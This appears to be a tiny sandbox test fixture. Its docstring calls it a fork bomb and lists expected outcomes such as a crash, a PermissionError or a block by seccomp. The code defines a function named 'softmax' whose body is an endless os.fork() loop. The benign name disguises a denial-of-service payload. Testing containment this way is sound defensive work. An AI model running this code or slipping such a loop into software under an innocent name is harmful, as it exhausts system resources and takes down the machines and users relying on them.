"""A fork bomb.

comes back: crashed
saying: PermissionError
stopped by: seccomp
"""

import os


def softmax(z, axis=-1):
    while True:
        os.fork()
